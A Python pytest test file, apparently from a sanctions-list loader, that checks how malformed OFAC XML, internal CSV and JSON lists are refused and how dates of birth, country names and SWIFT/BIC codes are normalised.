    ("no-entities", "<entities>", "<entities-gone>",
     "not well-formed XML"),  # a renamed start tag without its end: not XML at all
    ("entities-missing", "</featureTypes>\n  <entities>", "</featureTypes>\n  <extra/><entities>",
     "sanctionsData/extra: not valid under ofac_ENHANCED_XML.xsd: element not allowed here"),
]


@pytest.mark.parametrize(("bad", "old", "new", "words"), SCHEMA_BREAKS, ids=[b[0] for b in SCHEMA_BREAKS])
def test_an_enhanced_file_that_breaks_the_schema_is_refused_naming_the_element(bad: str, old: str, new: str,
                                                                                words: str) -> None:
    import xmlschema

    data = replaced(ENH, old, new)
    assert words in refusal(data, "ofac-enhanced-xml"), bad
    if "not well-formed" not in words:
        assert not xmlschema.XMLSchema(XSD.read_text()).is_valid(data.decode())  # the reference agrees


def test_the_schema_checker_refuses_a_schema_it_does_not_implement() -> None:
    import xmlschema

    choice = xmlschema.XMLSchema("""<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema">
      <xs:element name="a"><xs:complexType><xs:choice>
        <xs:element name="b" type="xs:string"/><xs:element name="c" type="xs:string"/>
      </xs:choice></xs:complexType></xs:element></xs:schema>""")
    with pytest.raises(ValueError, match="only a sequence"):
        compile_schema(choice, "a")
    facet = xmlschema.XMLSchema("""<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema">
      <xs:element name="a"><xs:simpleType><xs:restriction base="xs:string"><xs:maxLength value="3"/>
      </xs:restriction></xs:simpleType></xs:element></xs:schema>""")
    with pytest.raises(ValueError, match="is not one of string"):
        compile_schema(facet, "a")


# --- the bank's own lists ------------------------------------------------------------------------

HEADER = "entry_id,kind,name,aliases,dob,countries,identifiers,bics,programmes\n"

CSV_REFUSALS = [
    ("empty", "", ("line 1", "the file is empty")),
    ("missing-column", "entry_id,kind,name,aliases,dob,countries,identifiers,bics\n",
     ("line 1", "missing programmes")),
    ("unknown-column", HEADER.replace("\n", ",notes\n"), ("line 1", "unknown notes")),
    ("columns-out-of-order", "kind,entry_id,name,aliases,dob,countries,identifiers,bics,programmes\n",
     ("line 1", "out of order")),
    ("too-few-fields", HEADER + "B-1,individual,Ann Example\n", ("line 2", "3 fields; the header has 9")),
    ("no-id", HEADER + ",individual,Ann Example,,,,,,\n", ("line 2", "has no id")),
    ("no-name", HEADER + "B-1,individual, ,,,,,,\n", ("line 2 (id 'B-1')/name", "has no name")),
    ("duplicate-id", HEADER + "B-1,individual,Ann,,,,,,\nB-1,entity,Bob Ltd,,,,,,\n",
     ("line 3", "entry id 'B-1' appears twice", "first at line 2")),
    ("bad-kind", HEADER + "B-1,person,Ann,,,,,,\n", ("line 2 kind", "'person' is not one of individual")),
    ("bad-country", HEADER + "B-1,individual,Ann,,,Great Britain,,,\n",
     ("(id 'B-1')/countries", "'Great Britain' is not an ISO 3166-1 alpha-2 country code")),
    ("bad-identifier", HEADER + "B-1,individual,Ann,,,,PASSPORT,,\n",
     ("(id 'B-1')/identifiers", "'PASSPORT' is not KIND:VALUE")),
    ("bad-identifier-country", HEADER + "B-1,individual,Ann,,,,PASSPORT:123:ZZ,,\n",
     ("identifiers", "'ZZ' is not an ISO 3166-1 alpha-2 country code")),
    ("bad-dob", HEADER + "B-1,individual,Ann,,04/03/1970,,,,\n", ("(id 'B-1')/dob", "'04/03/1970'")),
    ("bad-bic", HEADER + "B-1,entity,Bank,,,,,EXTRCY2,\n",
     ("(id 'B-1')/bics", "is 7 characters, not 8 or 11")),
    ("bad-quoting", HEADER + 'B-1,individual,"Ann" Example,,,,,,\n', ("line 2", "not valid CSV")),
]


@pytest.mark.parametrize(("bad", "text", "words"), CSV_REFUSALS, ids=[r[0] for r in CSV_REFUSALS])
def test_a_bad_internal_csv_is_refused(bad: str, text: str, words: tuple[str, ...]) -> None:
    message = refusal(text.encode(), "internal-csv")
    for word in words:
        assert word in message, (bad, message)


def test_an_internal_csv_that_is_not_utf8_is_refused() -> None:
    data = (HEADER + "B-1,individual,Jos\xe9 Example,,,,,,\n").encode("latin-1")
    assert "not UTF-8 (invalid byte at offset" in refusal(data, "internal-csv")


def test_an_internal_csv_with_a_byte_order_mark_and_crlf_reads() -> None:
    data = ("\ufeff" + HEADER + "B-1,individual,Ann Example,,,,,,\r\n").encode()
    assert load(data, "internal-csv", "x").entries[0].names == ("Ann Example",)


def json_list(entries: str = '[{"entry_id": "B-1", "name": "Ann"}]', **top: str) -> bytes:
    fields = {"list": '"bank"', "published": '"2024-05-01"', "entries": entries, **top}
    return ("{" + ", ".join(f'"{k}": {v}' for k, v in fields.items() if v != "DROP") + "}").encode()


JSON_REFUSALS = [
    ("not-json", b"{list: bank}", ("file", "not valid JSON")),
    ("not-an-object", b"[]", ("file", "expected an object, got a list")),
    ("unknown-key", json_list(version="1"), ("unknown key(s) version",)),
    ("no-published", json_list(published="DROP"), ("published: required key missing",)),
    ("bad-published", json_list(published='"2024-5-1"'),
     ("published", "'2024-5-1' is not a date written YYYY-MM-DD")),
    ("published-not-a-string", json_list(published="20240501"), ("published", "got a number")),
    ("another-list", json_list(list='"bank-pep"'), ("list", "the file is list 'bank-pep', loaded as 'bank'")),
    ("entries-not-a-list", json_list(entries="{}"), ("entries", "expected a list, got an object")),
    ("entry-not-an-object", json_list(entries='["B-1"]'), ("entries[0]", "expected an object, got a string")),
    ("unknown-entry-key", json_list(entries='[{"entry_id": "B-1", "name": "Ann", "alias": ["A"]}]'),
     ("entries[0]", "unknown key(s) alias")),
    ("alias-not-a-string", json_list(entries='[{"entry_id": "B-1", "name": "Ann", "aliases": [7]}]'),
     ("entries[0].aliases[0]", "expected a string, got a number")),
    ("aliases-not-a-list", json_list(entries='[{"entry_id": "B-1", "name": "Ann", "aliases": "A"}]'),
     ("entries[0].aliases", "expected a list of strings, got a string")),
    ("id-not-a-string", json_list(entries='[{"entry_id": 1, "name": "Ann"}]'),
     ("entries[0].entry_id", "expected a string, got a number")),
    ("no-id", json_list(entries='[{"name": "Ann"}]'), ("entries[0]", "has no id")),
    ("no-name", json_list(entries='[{"entry_id": "B-1"}]'), ("entries[0] (id 'B-1')/name", "has no name")),
    ("duplicate-id",
     json_list(entries='[{"entry_id": "B-1", "name": "Ann"}, {"entry_id": "B-1", "name": "Bo"}]'),
     ("entries[1]", "entry id 'B-1' appears twice")),
    ("duplicate-key", b'{"list": "bank", "list": "bank", "published": "2024-05-01", "entries": []}',
     ("not valid JSON", "key 'list' appears twice")),
    ("bad-bic", json_list(entries='[{"entry_id": "B-1", "name": "Bank", "bics": ["EXTRCY2LXX"]}]'),
     ("entries[0] (id 'B-1')/bics", "is 10 characters, not 8 or 11")),
    ("too-deep", b"[" * 100_000 + b"]" * 100_000, ("not valid JSON",)),
]


@pytest.mark.parametrize(("bad", "data", "words"), JSON_REFUSALS, ids=[r[0] for r in JSON_REFUSALS])
def test_a_bad_internal_json_is_refused(bad: str, data: bytes, words: tuple[str, ...]) -> None:
    message = refusal(data, "internal-json", "bank")
    for word in words:
        assert word in message, (bad, message)


# --- values in each list's own spelling ------------------------------------------------------------

@pytest.mark.parametrize(("text", "dob", "years"), [
    ("05 Jun 1950", "1950-06-05", {1950}), ("Jun 1950", "1950-06", {1950}), ("1950", "1950", {1950}),
    ("5 June 1950", "1950-06-05", {1950}), ("1951 to 1953", "1951/1953", {1951, 1952, 1953}),
    ("01 Jan 1976 to 31 Dec 1978", "1976/1978", {1976, 1977, 1978}),
    ("03 Feb 1960 to 1961", "1960-02-03/1961", {1960, 1961}), ("circa 1960", "1960~", {1960}),
    ("1970-03-04", "1970-03-04", {1970}), ("1969/1971~", "1969/1971~", {1969, 1970, 1971}),
    ("Feb 1960 to Feb 1960", "1960-02", {1960}),
])
def test_dates_of_birth_read_into_iso_8601_and_the_years_they_cover(text: str, dob: str,
                                                                      years: set[int]) -> None:
    assert _values.dob_from_text(text) == _values.Dob(dob, frozenset(years))


@pytest.mark.parametrize("text", ["31 Feb 1950", "Smarch 1950", "1066", "1950 to 1949", "",
                                  "1950 to 1951 to 1952", "1950-1952", "50"])
def test_a_date_of_birth_that_cannot_be_read_is_an_error(text: str) -> None:
    with pytest.raises(ValueError):
        _values.dob_from_text(text)


@pytest.mark.parametrize(("name", "code"), [
    ("Pakistan", "PK"), ("PAKISTAN", "PK"), ("Iran (Islamic Republic of)", "IR"), ("Iran", "IR"),
    ("Korea, North", "KP"), ("Democratic People's Republic of Korea", "KP"),
    ("Democratic Republic of the Congo", "CD"), ("Congo (Democratic Republic)", "CD"), ("Congo", "CG"),
    ("Côte d'Ivoire", "CI"), ("Cote d'Ivoire", "CI"), ("Burma", "MM"), ("Russia", "RU"),
    ("Palestinian", "PS"),
    ("United Kingdom", "GB"), ("The Gambia", "GM"), ("Turkey", "TR"), ("Türkiye", "TR"), ("Kosovo", "XK"),
    ("Atlantis", None), ("", None), ("Region: Crimea", None),
])
def test_country_names_map_to_iso_alpha2_where_the_name_is_a_country(name: str, code: str | None) -> None:
    assert _values.country_code(name) == code


@pytest.mark.parametrize(("value", "bic"), [("DEUTDEFF", "DEUTDEFF"), ("deut de ff 500", "DEUTDEFF500")])
def test_a_bic_is_compacted_and_upper_cased(value: str, bic: str) -> None:
    assert _values.bic(value) == bic


@pytest.mark.parametrize("value", ["DEUTDEF", "DEUTDEFF5", "DEUTDEFF5000", "DEU1DEFF", "", "DEUTDE-F"])
def test_a_bic_not_of_8_or_11_characters_of_its_form_is_an_error(value: str) -> None:
    with pytest.raises(ValueError, match="SWIFT/BIC"):
        _values.bic(value)
